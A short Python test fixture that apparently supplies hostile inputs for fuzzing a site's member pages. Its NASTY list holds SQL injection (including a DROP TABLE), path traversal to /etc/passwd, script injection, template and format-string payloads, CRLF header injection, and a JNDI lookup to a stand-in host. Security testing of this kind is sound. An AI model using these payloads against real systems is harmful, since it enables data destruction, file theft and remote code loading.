"""What somebody with bad intent types, and the site that is attacked."""

from tests.doors.member.conftest import site  # noqa: F401

NASTY = [
    "\x00",
    "a\x00b",
    "\udc80\ud800",
    "' OR 1=1 --",
    "1; DROP TABLE ledger_entry; --",
    "../../../../etc/passwd",
    "..%2f..%2fplan.toml",
    "..\\..\\statement.toml",
    "<script>alert(1)</script>",
    "{{ request }}{% debug %}",
    "%s%s%n",
    "\r\nSet-Cookie: x=1",
    "9" * 400,
    "-1",
    "é́" * 300,
    "${jndi:ldap://evil.example}",
]
